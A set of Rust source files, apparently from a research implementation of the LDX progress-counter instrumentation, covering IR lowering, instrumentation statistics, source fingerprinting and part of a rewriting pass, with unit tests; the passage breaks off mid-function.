        .map(|(i, (n, _))| (n.as_str(), GlobalId(i as u32)))
        .collect();

    let func_ids: HashMap<&str, FuncId> = program
        .functions()
        .enumerate()
        .map(|(i, f)| (f.name.as_str(), FuncId(i as u32)))
        .collect();

    let functions = program
        .functions()
        .map(|f| {
            let mut ctx = Lowerer::new(f.name.clone(), &f.params, &func_ids, &global_ids);
            ctx.lower_body(&f.body);
            ctx.finish()
        })
        .collect();

    IrProgram::new(functions, globals)
}

fn const_eval(e: &Expr) -> Const {
    match &e.kind {
        ExprKind::Int(v) => Const::Int(*v),
        ExprKind::Str(s) => Const::Str(s.clone()),
        ExprKind::Unary {
            op: UnaryOp::Neg,
            operand,
        } => match const_eval(operand) {
            Const::Int(v) => Const::Int(-v),
            other => other,
        },
        ExprKind::Unary {
            op: UnaryOp::Not,
            operand,
        } => match const_eval(operand) {
            Const::Int(v) => Const::Int(i64::from(v == 0)),
            other => other,
        },
        ExprKind::Array(elems) => Const::Array(elems.iter().map(const_eval).collect()),
        other => unreachable!("non-constant global initializer survived resolve: {other:?}"),
    }
}

/// Break/continue targets for the innermost loop.
struct LoopCtx {
    continue_target: BlockId,
    break_target: BlockId,
}

struct Lowerer<'a> {
    func: FuncBody,
    current: BlockId,
    scopes: Vec<HashMap<String, LocalId>>,
    loops: Vec<LoopCtx>,
    func_ids: &'a HashMap<&'a str, FuncId>,
    global_ids: &'a HashMap<&'a str, GlobalId>,
}

impl<'a> Lowerer<'a> {
    fn new(
        name: String,
        params: &[String],
        func_ids: &'a HashMap<&'a str, FuncId>,
        global_ids: &'a HashMap<&'a str, GlobalId>,
    ) -> Self {
        let mut func = FuncBody {
            name,
            param_count: params.len(),
            local_count: 0,
            blocks: vec![BasicBlock::new(Terminator::Return(None))],
            entry: BlockId(0),
            site_count: 0,
            loop_count: 0,
        };
        let mut top = HashMap::new();
        for p in params {
            let id = func.alloc_local();
            top.insert(p.clone(), id);
        }
        Lowerer {
            func,
            current: BlockId(0),
            scopes: vec![top],
            loops: Vec::new(),
            func_ids,
            global_ids,
        }
    }

    fn finish(mut self) -> FuncBody {
        prune_unreachable(&mut self.func);
        self.func
    }

    fn fresh_site(&mut self) -> SiteId {
        let id = SiteId(self.func.site_count);
        self.func.site_count += 1;
        id
    }

    fn temp(&mut self) -> LocalId {
        self.func.alloc_local()
    }

    fn emit(&mut self, instr: Instr) {
        self.func.block_mut(self.current).instrs.push(instr);
    }

    fn new_block(&mut self) -> BlockId {
        self.func
            .push_block(BasicBlock::new(Terminator::Return(None)))
    }

    fn terminate(&mut self, term: Terminator) {
        self.func.block_mut(self.current).term = term;
    }

    /// Terminates the current block and switches to `next`.
    fn jump_to(&mut self, next: BlockId) {
        self.terminate(Terminator::Jump(next));
        self.current = next;
    }

    fn lookup_var(&self, name: &str) -> Option<LocalId> {
        self.scopes.iter().rev().find_map(|s| s.get(name)).copied()
    }

    fn lower_body(&mut self, body: &Block) {
        self.lower_block(body);
        // The trailing block keeps its default `Return(None)` terminator,
        // giving every function an implicit `return;` at the end.
    }

    fn lower_block(&mut self, block: &Block) {
        self.scopes.push(HashMap::new());
        for stmt in &block.stmts {
            self.lower_stmt(stmt);
        }
        self.scopes.pop();
    }

    fn lower_stmt(&mut self, stmt: &Stmt) {
        match &stmt.kind {
            StmtKind::Let { name, init } => {
                let value = self.lower_expr(init);
                let slot = self.func.alloc_local();
                self.emit(Instr::Copy {
                    dst: slot,
                    src: value,
                });
                self.scopes
                    .last_mut()
                    .expect("scope stack never empty")
                    .insert(name.clone(), slot);
            }
            StmtKind::Assign { target, value } => {
                let value = self.lower_expr(value);
                match target {
                    LValue::Var(name) => {
                        if let Some(slot) = self.lookup_var(name) {
                            self.emit(Instr::Copy {
                                dst: slot,
                                src: value,
                            });
                        } else {
                            let global = self.global_ids[name.as_str()];
                            self.emit(Instr::StoreGlobal { global, src: value });
                        }
                    }
                    LValue::Index { name, index } => {
                        let index = self.lower_expr(index);
                        if let Some(slot) = self.lookup_var(name) {
                            self.emit(Instr::StoreIndexLocal {
                                local: slot,
                                index,
                                src: value,
                            });
                        } else {
                            let global = self.global_ids[name.as_str()];
                            self.emit(Instr::StoreIndexGlobal {
                                global,
                                index,
                                src: value,
                            });
                        }
                    }
                }
            }
            StmtKind::If {
                cond,
                then_block,
                else_block,
            } => {
                let cond = self.lower_expr(cond);
                let then_bb = self.new_block();
                let else_bb = self.new_block();
                let join_bb = self.new_block();
                self.terminate(Terminator::Branch {
                    cond,
                    then_bb,
                    else_bb,
                });

                self.current = then_bb;
                self.lower_block(then_block);
                self.terminate(Terminator::Jump(join_bb));

                self.current = else_bb;
                self.lower_block(else_block);
                self.terminate(Terminator::Jump(join_bb));

                self.current = join_bb;
            }
            StmtKind::While { cond, body } => {
                let header = self.new_block();
                let body_bb = self.new_block();
                let after = self.new_block();

                self.jump_to(header);
                let cond = self.lower_expr(cond);
                self.terminate(Terminator::Branch {
                    cond,
                    then_bb: body_bb,
                    else_bb: after,
                });

                self.current = body_bb;
                self.loops.push(LoopCtx {
                    continue_target: header,
                    break_target: after,
                });
                self.lower_block(body);
                self.loops.pop();
                self.terminate(Terminator::Jump(header));

                self.current = after;
            }
            StmtKind::For {
                init,
                cond,
                step,
                body,
            } => {
                self.scopes.push(HashMap::new());
                if let Some(init) = init {
                    self.lower_stmt(init);
                }
                let header = self.new_block();
                let body_bb = self.new_block();
                let step_bb = self.new_block();
                let after = self.new_block();

                self.jump_to(header);
                let cond = match cond {
                    Some(c) => self.lower_expr(c),
                    None => {
                        let t = self.temp();
                        self.emit(Instr::Const {
                            dst: t,
                            value: Const::Int(1),
                        });
                        t
                    }
                };
                self.terminate(Terminator::Branch {
                    cond,
                    then_bb: body_bb,
                    else_bb: after,
                });

                self.current = body_bb;
                self.loops.push(LoopCtx {
                    continue_target: step_bb,
                    break_target: after,
                });
                self.lower_block(body);
                self.loops.pop();
                self.terminate(Terminator::Jump(step_bb));

                self.current = step_bb;
                if let Some(step) = step {
                    self.lower_stmt(step);
                }
                self.terminate(Terminator::Jump(header));

                self.scopes.pop();
                self.current = after;
            }
            StmtKind::Return(value) => {
                let slot = value.as_ref().map(|e| self.lower_expr(e));
                self.terminate(Terminator::Return(slot));
                // Anything after the return is unreachable; give it a fresh
                // block that `prune_unreachable` will delete.
                self.current = self.new_block();
            }
            StmtKind::Break => {
                let target = self
                    .loops
                    .last()
                    .expect("resolver rejects break outside loops")
                    .break_target;
                self.terminate(Terminator::Jump(target));
                self.current = self.new_block();
            }
            StmtKind::Continue => {
                let target = self
                    .loops
                    .last()
                    .expect("resolver rejects continue outside loops")
                    .continue_target;
                self.terminate(Terminator::Jump(target));
                self.current = self.new_block();
            }
            StmtKind::Expr(e) => {
                self.lower_expr(e);
            }
        }
    }

    fn lower_expr(&mut self, expr: &Expr) -> LocalId {
        match &expr.kind {
            ExprKind::Int(v) => {
                let dst = self.temp();
                self.emit(Instr::Const {
                    dst,
                    value: Const::Int(*v),
                });
                dst
            }
            ExprKind::Str(s) => {
                let dst = self.temp();
                self.emit(Instr::Const {
                    dst,
                    value: Const::Str(s.clone()),
                });
                dst
            }
            ExprKind::Var(name) => {
                if let Some(slot) = self.lookup_var(name) {
                    slot
                } else {
                    let dst = self.temp();
                    let global = self.global_ids[name.as_str()];
                    self.emit(Instr::LoadGlobal { dst, global });
                    dst
                }
            }
            ExprKind::FuncRef(name) => {
                let dst = self.temp();
                let func = self.func_ids[name.as_str()];
                self.emit(Instr::FuncRef { dst, func });
                dst
            }
            ExprKind::Array(elems) => {
                let slots: Vec<LocalId> = elems.iter().map(|e| self.lower_expr(e)).collect();
                let dst = self.temp();
                self.emit(Instr::MakeArray { dst, elems: slots });
                dst
            }
            ExprKind::Unary { op, operand } => {
                let operand = self.lower_expr(operand);
                let dst = self.temp();
                self.emit(Instr::Unary {
                    dst,
                    op: *op,
                    operand,
                });
                dst
            }
            ExprKind::Binary { op, lhs, rhs } if op.short_circuits() => {
                self.lower_short_circuit(*op, lhs, rhs)
            }
            ExprKind::Binary { op, lhs, rhs } => {
                let lhs = self.lower_expr(lhs);
                let rhs = self.lower_expr(rhs);
                let dst = self.temp();
                self.emit(Instr::Binary {
                    dst,
                    op: *op,
                    lhs,
                    rhs,
                });
                dst
            }
            ExprKind::Index { base, index } => {
                let base = self.lower_expr(base);
                let index = self.lower_expr(index);
                let dst = self.temp();
                self.emit(Instr::Index { dst, base, index });
                dst
            }
            ExprKind::Call { callee, args } => {
                let arg_slots: Vec<LocalId> = args.iter().map(|a| self.lower_expr(a)).collect();
                let dst = self.temp();
                if let Some(&func) = self.func_ids.get(callee.as_str()) {
                    let site = self.fresh_site();
                    self.emit(Instr::Call {
                        dst,
                        func,
                        args: arg_slots,
                        site,
                        fresh_frame: false,
                    });
                } else {
                    match builtin(callee).expect("resolver validated builtin").kind {
                        BuiltinKind::Syscall(sys) => {
                            let site = self.fresh_site();
                            self.emit(Instr::Syscall {
                                dst,
                                sys,
                                args: arg_slots,
                                site,
                            });
                        }
                        BuiltinKind::Lib(lib) => {
                            self.emit(Instr::CallLib {
                                dst,
                                lib,
                                args: arg_slots,
                            });
                        }
                    }
                }
                dst
            }
            ExprKind::CallIndirect { callee, args } => {
                let callee = self.lower_expr(callee);
                let arg_slots: Vec<LocalId> = args.iter().map(|a| self.lower_expr(a)).collect();
                let dst = self.temp();
                let site = self.fresh_site();
                self.emit(Instr::CallIndirect {
                    dst,
                    callee,
                    args: arg_slots,
                    site,
                });
                dst
            }
        }
    }

    /// Lowers `a && b` / `a || b` into a diamond producing 0 or 1.
    fn lower_short_circuit(&mut self, op: BinaryOp, lhs: &Expr, rhs: &Expr) -> LocalId {
        let dst = self.temp();
        let lhs_val = self.lower_expr(lhs);

        let rhs_bb = self.new_block();
        let short_bb = self.new_block();
        let join_bb = self.new_block();

        match op {
            BinaryOp::And => self.terminate(Terminator::Branch {
                cond: lhs_val,
                then_bb: rhs_bb,
                else_bb: short_bb,
            }),
            BinaryOp::Or => self.terminate(Terminator::Branch {
                cond: lhs_val,
                then_bb: short_bb,
                else_bb: rhs_bb,
            }),
            _ => unreachable!("only && and || short-circuit"),
        }

        // Short-circuit arm: the result is decided by `lhs` alone.
        self.current = short_bb;
        self.emit(Instr::Const {
            dst,
            value: Const::Int(i64::from(op == BinaryOp::Or)),
        });
        self.terminate(Terminator::Jump(join_bb));

        // Full-evaluation arm: result is the truthiness of `rhs`.
        self.current = rhs_bb;
        let rhs_val = self.lower_expr(rhs);
        let zero = self.temp();
        self.emit(Instr::Const {
            dst: zero,
            value: Const::Int(0),
        });
        self.emit(Instr::Binary {
            dst,
            op: BinaryOp::Ne,
            lhs: rhs_val,
            rhs: zero,
        });
        self.terminate(Terminator::Jump(join_bb));

        self.current = join_bb;
        dst
    }
}

/// Removes blocks unreachable from the entry and compacts block ids.
fn prune_unreachable(func: &mut FuncBody) {
    let n = func.blocks.len();
    let mut reachable = vec![false; n];
    let mut stack = vec![func.entry];
    while let Some(b) = stack.pop() {
        if reachable[b.index()] {
            continue;
        }
        reachable[b.index()] = true;
        for s in func.block(b).term.successors() {
            stack.push(s);
        }
    }
    if reachable.iter().all(|&r| r) {
        return;
    }
    let mut remap = vec![BlockId(u32::MAX); n];
    let mut kept = Vec::with_capacity(n);
    for (i, block) in func.blocks.drain(..).enumerate() {
        if reachable[i] {
            remap[i] = BlockId(kept.len() as u32);
            kept.push(block);
        }
    }
    for block in &mut kept {
        match &mut block.term {
            Terminator::Jump(b) => *b = remap[b.index()],
            Terminator::Branch {
                then_bb, else_bb, ..
            } => {
                *then_bb = remap[then_bb.index()];
                *else_bb = remap[else_bb.index()];
            }
            Terminator::Return(_) => {}
        }
    }
    func.entry = remap[func.entry.index()];
    func.blocks = kept;
}

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_lang::compile;

    fn lower_src(src: &str) -> IrProgram {
        lower(&compile(src).unwrap())
    }

    fn main_body(p: &IrProgram) -> &FuncBody {
        p.func(p.main())
    }

    #[test]
    fn lowers_straight_line_code() {
        let p = lower_src("fn main() { let x = 1 + 2; }");
        let f = main_body(&p);
        assert_eq!(f.blocks.len(), 1);
        assert!(matches!(f.block(f.entry).term, Terminator::Return(None)));
        assert!(f
            .block(f.entry)
            .instrs
            .iter()
            .any(|i| matches!(i, Instr::Binary { .. })));
    }

    #[test]
    fn if_produces_diamond() {
        let p = lower_src("fn main() { let x = 1; if (x) { x = 2; } else { x = 3; } x = 4; }");
        let f = main_body(&p);
        // entry (branch), then, else, join.
        assert_eq!(f.blocks.len(), 4);
        let succs = f.block(f.entry).term.successors();
        assert_eq!(succs.len(), 2);
        // Both arms jump to the same join block.
        let j0 = f.block(succs[0]).term.successors();
        let j1 = f.block(succs[1]).term.successors();
        assert_eq!(j0, j1);
    }

    #[test]
    fn while_produces_natural_loop() {
        let p = lower_src("fn main() { let i = 0; while (i < 3) { i = i + 1; } }");
        let f = main_body(&p);
        // entry, header, body, after.
        assert_eq!(f.blocks.len(), 4);
        let header = match f.block(f.entry).term {
            Terminator::Jump(h) => h,
            _ => panic!("entry should jump to header"),
        };
        let Terminator::Branch {
            then_bb, else_bb, ..
        } = f.block(header).term
        else {
            panic!("header should branch")
        };
        // The body must jump back to the header (the backedge).
        assert_eq!(f.block(then_bb).term.successors(), vec![header]);
        // The exit block terminates the function.
        assert!(matches!(f.block(else_bb).term, Terminator::Return(None)));
    }

    #[test]
    fn for_desugars_with_step_latch() {
        let p = lower_src("fn main() { for (let i = 0; i < 3; i = i + 1) { write(1, str(i)); } }");
        let f = main_body(&p);
        // entry, header, body, step, after.
        assert_eq!(f.blocks.len(), 5);
        // Find the block that jumps back: it must be the step block, and it
        // must contain the increment.
        let header = match f.block(f.entry).term {
            Terminator::Jump(h) => h,
            _ => panic!(),
        };
        let latch = f
            .block_ids()
            .find(|&b| b != f.entry && f.block(b).term.successors() == vec![header])
            .expect("a latch exists");
        assert!(f.block(latch).instrs.iter().any(|i| matches!(
            i,
            Instr::Binary {
                op: BinaryOp::Add,
                ..
            }
        )));
    }

    #[test]
    fn break_jumps_past_loop_and_prunes_dead_code() {
        let p = lower_src("fn main() { while (1) { break; } }");
        let f = main_body(&p);
        for b in f.block_ids() {
            // No block is unreachable.
            let reached = f.entry == b
                || f.block_ids()
                    .any(|p| f.block(p).term.successors().contains(&b));
            assert!(reached, "block {b} unreachable");
        }
    }

    #[test]
    fn continue_in_for_targets_step_block() {
        let p = lower_src(
            r#"fn main() {
                for (let i = 0; i < 4; i = i + 1) {
                    if (i == 2) { continue; }
                    write(1, str(i));
                }
            }"#,
        );
        let f = main_body(&p);
        let header = match f.block(f.entry).term {
            Terminator::Jump(h) => h,
            _ => panic!(),
        };
        // Exactly one block jumps to the header: the step latch. (The
        // `continue` jumps to the step block, not the header.)
        let latches: Vec<_> = f
            .block_ids()
            .filter(|&b| b != f.entry && f.block(b).term.successors().contains(&header))
            .collect();
        assert_eq!(latches.len(), 1);
    }

    #[test]
    fn return_terminates_and_discards_trailing_code() {
        let p = lower_src("fn f() { return 1; } fn main() { f(); }");
        let fid = p.func_id("f").unwrap();
        let f = p.func(fid);
        assert_eq!(f.blocks.len(), 1);
        assert!(matches!(f.block(f.entry).term, Terminator::Return(Some(_))));
    }

    #[test]
    fn short_circuit_and_produces_control_flow() {
        let p = lower_src("fn main() { let x = getpid() && time(); }");
        let f = main_body(&p);
        assert!(f.blocks.len() >= 4, "&& must lower to a diamond");
        // The rhs syscall must be in a non-entry block (conditionally run).
        let entry_has_time = f
            .block(f.entry)
            .instrs
            .iter()
            .any(|i| i.as_syscall() == Some(ldx_lang::Syscall::Time));
        assert!(!entry_has_time);
    }

    #[test]
    fn syscalls_and_calls_get_distinct_sites() {
        let p = lower_src(
            r#"
            fn helper() { return getpid(); }
            fn main() { helper(); getpid(); helper(); }
            "#,
        );
        let f = main_body(&p);
        let mut sites = Vec::new();
        for (_, i) in f.instrs() {
            match i {
                Instr::Call { site, .. } | Instr::Syscall { site, .. } => sites.push(*site),
                _ => {}
            }
        }
        assert_eq!(sites.len(), 3);
        let mut dedup = sites.clone();
        dedup.sort();
        dedup.dedup();
        assert_eq!(dedup.len(), 3, "sites must be unique");
        assert_eq!(f.site_count, 3);
    }

    #[test]
    fn lib_calls_do_not_consume_sites() {
        let p = lower_src("fn main() { let s = len(\"abc\") + len(\"d\"); }");
        let f = main_body(&p);
        assert_eq!(f.site_count, 0);
        assert_eq!(
            f.instrs()
                .filter(|(_, i)| matches!(i, Instr::CallLib { .. }))
                .count(),
            2
        );
    }

    #[test]
    fn globals_lower_to_slots() {
        let p = lower_src("global a = 5; global msg = \"hi\"; fn main() { a = a + 1; msg = msg; }");
        assert_eq!(p.globals.len(), 2);
        assert_eq!(p.globals[0], ("a".to_string(), Const::Int(5)));
        let f = main_body(&p);
        assert!(f.instrs().any(|(_, i)| matches!(
            i,
            Instr::LoadGlobal {
                global: GlobalId(0),
                ..
            }
        )));
        assert!(f.instrs().any(|(_, i)| matches!(
            i,
            Instr::StoreGlobal {
                global: GlobalId(0),
                ..
            }
        )));
    }

    #[test]
    fn global_array_assignment_is_store_index_global() {
        let p = lower_src("global buf = [0, 0]; fn main() { buf[1] = 7; }");
        let f = main_body(&p);
        assert!(f
            .instrs()
            .any(|(_, i)| matches!(i, Instr::StoreIndexGlobal { .. })));
    }

    #[test]
    fn indirect_call_lowered_from_variable_call() {
        let p = lower_src("fn double(x) { return x * 2; } fn main() { let f = &double; f(3); }");
        let f = main_body(&p);
        assert!(f
            .instrs()
            .any(|(_, i)| matches!(i, Instr::CallIndirect { .. })));
        assert!(f.instrs().any(|(_, i)| matches!(i, Instr::FuncRef { .. })));
    }

    #[test]
    fn const_global_arrays() {
        let p = lower_src("global t = [1, \"two\", [3]]; fn main() {}");
        let Const::Array(elems) = &p.globals[0].1 else {
            panic!()
        };
        assert_eq!(elems.len(), 3);
        assert_eq!(elems[0], Const::Int(1));
    }

    #[test]
    fn negated_global_initializer() {
        let p = lower_src("global g = -3; fn main() {}");
        assert_eq!(p.globals[0].1, Const::Int(-3));
    }

    #[test]
    fn nested_loops_lower_reducibly() {
        let p = lower_src(
            r#"fn main() {
                let n = int(read(open("f", 0), 4));
                for (let i = 0; i < n; i = i + 1) {
                    let j = 0;
                    while (j < n) {
                        write(1, str(j));
                        j = j + 1;
                    }
                }
            }"#,
        );
        let f = main_body(&p);
        // Every block reachable, every successor valid.
        for b in f.block_ids() {
            for s in f.block(b).term.successors() {
                assert!(s.index() < f.blocks.len());
            }
        }
    }
}
