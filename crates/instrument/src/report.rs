//! Static instrumentation statistics (the columns of paper Table 1).

use std::fmt;

/// Per-function instrumentation statistics.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FuncReport {
    /// The function's name.
    pub name: String,
    /// Instruction count before instrumentation.
    pub original_instrs: usize,
    /// Instructions added by the pass (compensations + loop markers).
    pub added_instrs: usize,
    /// Number of `cnt += k` compensation instructions added.
    pub compensation_instrs: usize,
    /// Number of loops that received barrier/reset/exit instrumentation.
    pub instrumented_loops: usize,
    /// Recursive (fresh-frame) direct call sites.
    pub recursive_call_sites: usize,
    /// Indirect call sites (always fresh-frame).
    pub indirect_call_sites: usize,
    /// Syscall sites in the function.
    pub syscall_sites: usize,
    /// Output syscall sites (`write`/`send`) — the default sink set.
    pub output_syscall_sites: usize,
    /// The function's total static counter increment.
    pub fcnt: u64,
}

/// Whole-program instrumentation statistics.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InstrumentationReport {
    /// Per-function rows.
    pub functions: Vec<FuncReport>,
    /// The maximum static counter value along any program path (paper
    /// Table 1 "Max. Cnt.": `FCNT` of `main`).
    pub max_cnt: u64,
}

impl InstrumentationReport {
    /// Assembles a report.
    pub fn new(functions: Vec<FuncReport>, max_cnt: u64) -> Self {
        InstrumentationReport { functions, max_cnt }
    }

    /// Total instructions before instrumentation.
    pub fn total_original_instrs(&self) -> usize {
        self.functions.iter().map(|f| f.original_instrs).sum()
    }

    /// Total instructions added by the pass.
    pub fn total_added_instrs(&self) -> usize {
        self.functions.iter().map(|f| f.added_instrs).sum()
    }

    /// Fraction of the instrumented program that is instrumentation
    /// (the paper reports 3.44% on average for its suite).
    pub fn instrumented_fraction(&self) -> f64 {
        let orig = self.total_original_instrs();
        let added = self.total_added_instrs();
        if orig + added == 0 {
            0.0
        } else {
            added as f64 / (orig + added) as f64
        }
    }

    /// Total instrumented loops.
    pub fn total_loops(&self) -> usize {
        self.functions.iter().map(|f| f.instrumented_loops).sum()
    }

    /// Total recursive call sites.
    pub fn total_recursive_sites(&self) -> usize {
        self.functions.iter().map(|f| f.recursive_call_sites).sum()
    }

    /// Total indirect call sites.
    pub fn total_indirect_sites(&self) -> usize {
        self.functions.iter().map(|f| f.indirect_call_sites).sum()
    }

    /// Total syscall sites.
    pub fn total_syscall_sites(&self) -> usize {
        self.functions.iter().map(|f| f.syscall_sites).sum()
    }

    /// Total default sinks (output syscall sites).
    pub fn total_sinks(&self) -> usize {
        self.functions.iter().map(|f| f.output_syscall_sites).sum()
    }
}

impl fmt::Display for InstrumentationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "{:<16} {:>7} {:>7} {:>6} {:>6} {:>6} {:>6} {:>8}",
            "function", "instrs", "added", "loops", "recur", "fptr", "sys", "fcnt"
        )?;
        for fr in &self.functions {
            writeln!(
                f,
                "{:<16} {:>7} {:>7} {:>6} {:>6} {:>6} {:>6} {:>8}",
                fr.name,
                fr.original_instrs,
                fr.added_instrs,
                fr.instrumented_loops,
                fr.recursive_call_sites,
                fr.indirect_call_sites,
                fr.syscall_sites,
                fr.fcnt
            )?;
        }
        writeln!(
            f,
            "total: {} instrs, {} added ({:.2}%), {} loops, max cnt {}",
            self.total_original_instrs(),
            self.total_added_instrs(),
            self.instrumented_fraction() * 100.0,
            self.total_loops(),
            self.max_cnt
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> InstrumentationReport {
        InstrumentationReport::new(
            vec![
                FuncReport {
                    name: "main".into(),
                    original_instrs: 90,
                    added_instrs: 10,
                    compensation_instrs: 4,
                    instrumented_loops: 2,
                    recursive_call_sites: 1,
                    indirect_call_sites: 3,
                    syscall_sites: 7,
                    output_syscall_sites: 2,
                    fcnt: 9,
                },
                FuncReport {
                    name: "helper".into(),
                    original_instrs: 10,
                    added_instrs: 0,
                    compensation_instrs: 0,
                    instrumented_loops: 0,
                    recursive_call_sites: 0,
                    indirect_call_sites: 0,
                    syscall_sites: 1,
                    output_syscall_sites: 1,
                    fcnt: 1,
                },
            ],
            9,
        )
    }

    #[test]
    fn totals() {
        let r = sample();
        assert_eq!(r.total_original_instrs(), 100);
        assert_eq!(r.total_added_instrs(), 10);
        assert!((r.instrumented_fraction() - 10.0 / 110.0).abs() < 1e-12);
        assert_eq!(r.total_loops(), 2);
        assert_eq!(r.total_recursive_sites(), 1);
        assert_eq!(r.total_indirect_sites(), 3);
        assert_eq!(r.total_syscall_sites(), 8);
        assert_eq!(r.total_sinks(), 3);
    }

    #[test]
    fn display_renders_rows() {
        let text = sample().to_string();
        assert!(text.contains("main"));
        assert!(text.contains("helper"));
        assert!(text.contains("max cnt 9"));
    }

    #[test]
    fn empty_report_fraction_is_zero() {
        let r = InstrumentationReport::new(vec![], 0);
        assert_eq!(r.instrumented_fraction(), 0.0);
    }
}
