//! Stable source fingerprinting for compile/instrument caches.

/// A stable 64-bit FNV-1a fingerprint of Lx source text.
///
/// This is the key of the batch layer's instrumentation cache: two
/// workloads with byte-identical source share one compile + instrument.
/// The hash is deterministic across runs and platforms (no randomized
/// hasher state), so cache behaviour — and anything keyed off it — is
/// reproducible.
pub fn source_fingerprint(source: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in source.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_discriminating() {
        assert_eq!(
            source_fingerprint("fn main() {}"),
            source_fingerprint("fn main() {}")
        );
        assert_ne!(
            source_fingerprint("fn main() {}"),
            source_fingerprint("fn main() { }")
        );
        assert_ne!(source_fingerprint(""), source_fingerprint(" "));
    }

    #[test]
    fn known_vector_is_stable() {
        // FNV-1a of the empty string is the offset basis.
        assert_eq!(source_fingerprint(""), 0xcbf2_9ce4_8422_2325);
    }
}
