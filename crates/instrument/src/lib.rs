//! The LDX progress-counter instrumentation pass.
//!
//! This crate is the static half of the paper's contribution: given a
//! lowered Lx program, it computes for every CFG node the *maximum number of
//! syscalls along any path from the function entry* (paper Algorithm 1) and
//! rewrites the program so that, at runtime, a single counter per execution
//! tracks exactly that value regardless of which path was taken:
//!
//! * edges whose target can be reached along a syscall-richer path receive
//!   **compensation** (`cnt += delta`), so both branch arms of a predicate
//!   produce the same counter at the join;
//! * **loops** (paper Algorithm 3) synchronize at every backedge (an
//!   iteration barrier), reset the counter so it does not grow with the trip
//!   count, and raise it past the loop maximum on exit;
//! * **recursive** and **indirect** calls get a fresh counter frame
//!   (save, reset to zero, restore on return — paper §5–6);
//! * every `return` is compensated to the function's maximum (`FCNT`), so a
//!   call site always observes the same increment regardless of the path
//!   taken inside the callee.
//!
//! The runtime half (maintaining the counter, synchronizing the dual
//! executions) lives in `ldx-runtime` and `ldx-dualex`.
//!
//! # Example
//!
//! ```
//! use ldx_instrument::instrument;
//!
//! let resolved = ldx_lang::compile(r#"
//!     fn main() {
//!         let fd = open("data", 0);
//!         if (len(read(fd, 8)) > 4) {
//!             write(1, "big");     // this arm has 1 more syscall...
//!         }                        // ...so the else edge gets `cnt += 1`
//!         close(fd);
//!     }
//! "#)?;
//! let lowered = ldx_ir::lower(&resolved);
//! let instrumented = instrument(&lowered);
//! assert!(instrumented.report().functions[0].compensation_instrs > 0);
//! # Ok::<(), ldx_lang::LangError>(())
//! ```

mod analysis;
mod fingerprint;
mod pass;
mod report;
mod verify;

pub use analysis::{CounterAnalysis, FuncCounters};
pub use fingerprint::source_fingerprint;
pub use pass::{instrument, InstrumentedProgram};
pub use report::{FuncReport, InstrumentationReport};
pub use verify::{check_counter_consistency, check_counter_consistency_all, ConsistencyError};
