//! The rewriting pass: applies the counter analysis to the IR.

use crate::analysis::{classify_edges, CounterAnalysis, EdgeKind};
use crate::report::{FuncReport, InstrumentationReport};
use ldx_ir::{BasicBlock, BlockId, FuncBody, FuncId, Instr, IrProgram, LoopId, Terminator};

/// An instrumented program plus the metadata later stages need.
#[derive(Debug, Clone)]
pub struct InstrumentedProgram {
    program: IrProgram,
    fcnt: Vec<u64>,
    report: InstrumentationReport,
}

impl InstrumentedProgram {
    /// The rewritten program, ready for the `ldx-runtime` interpreter.
    pub fn program(&self) -> &IrProgram {
        &self.program
    }

    /// `FCNT` (total counter increment) of function `f`.
    pub fn fcnt(&self, f: FuncId) -> u64 {
        self.fcnt[f.index()]
    }

    /// The static instrumentation report (paper Table 1 columns).
    pub fn report(&self) -> &InstrumentationReport {
        &self.report
    }

    /// Consumes `self`, returning the rewritten program.
    pub fn into_program(self) -> IrProgram {
        self.program
    }

    /// Replaces the program body. Only for tests that need to check the
    /// verifier against deliberately broken instrumentation.
    #[doc(hidden)]
    pub fn set_program_for_tests(&mut self, program: IrProgram) {
        self.program = program;
    }
}

/// Instruments `program` with the LDX progress counter.
///
/// This is paper Algorithm 1 (`INSTRUMENTPROG`): functions are analyzed in
/// reverse topological call-graph order, then each function's CFG edges
/// receive compensation, loop, and return instrumentation.
pub fn instrument(program: &IrProgram) -> InstrumentedProgram {
    let analysis = CounterAnalysis::compute(program);
    let mut out = program.clone();
    let mut reports = Vec::with_capacity(out.functions.len());

    for (fid, func) in out.functions.iter_mut().enumerate() {
        let fid = FuncId(fid as u32);
        let counters = analysis.func(fid);
        let original_instrs = func.instr_count();

        // Count static features for the report before rewriting.
        let mut recursive_call_sites = 0usize;
        let mut indirect_call_sites = 0usize;
        let mut syscall_sites = 0usize;
        let mut output_syscall_sites = 0usize;
        for block in &mut func.blocks {
            for instr in &mut block.instrs {
                match instr {
                    Instr::Call {
                        func: callee,
                        fresh_frame,
                        ..
                    } if analysis.callgraph.is_recursive_call(fid, *callee) => {
                        *fresh_frame = true;
                        recursive_call_sites += 1;
                    }
                    Instr::Call { .. } => {}
                    Instr::CallIndirect { .. } => indirect_call_sites += 1,
                    Instr::Syscall { sys, .. } => {
                        syscall_sites += 1;
                        if sys.is_output() {
                            output_syscall_sites += 1;
                        }
                    }
                    _ => {}
                }
            }
        }

        // Return compensation: raise every return path to FCNT.
        for b in 0..func.blocks.len() {
            if matches!(func.blocks[b].term, Terminator::Return(_)) {
                let delta = counters.fcnt - counters.out_cnt[b];
                if delta > 0 {
                    func.blocks[b].instrs.push(Instr::CntAdd { delta });
                }
            }
        }

        // Map forest loop indices to dense LoopIds.
        let loop_id = |forest_index: usize| -> LoopId {
            let rank = counters
                .instrumented_loops
                .iter()
                .position(|&i| i == forest_index)
                .expect("only instrumented loops receive ids");
            LoopId(rank as u32)
        };

        // Edge instrumentation. Classify on the pre-split CFG, then apply.
        let edges = classify_edges(func, counters);
        let mut planned: Vec<((BlockId, BlockId), Vec<Instr>)> = Vec::new();
        let mut keys: Vec<(BlockId, BlockId)> = edges.keys().copied().collect();
        keys.sort();
        for key in keys {
            let kind = &edges[&key];
            let instrs = match kind {
                EdgeKind::Plain { delta, enters } => {
                    let mut v = Vec::new();
                    if *delta > 0 {
                        v.push(Instr::CntAdd { delta: *delta });
                    }
                    for &i in enters {
                        v.push(Instr::LoopEnter {
                            loop_id: loop_id(i),
                        });
                    }
                    v
                }
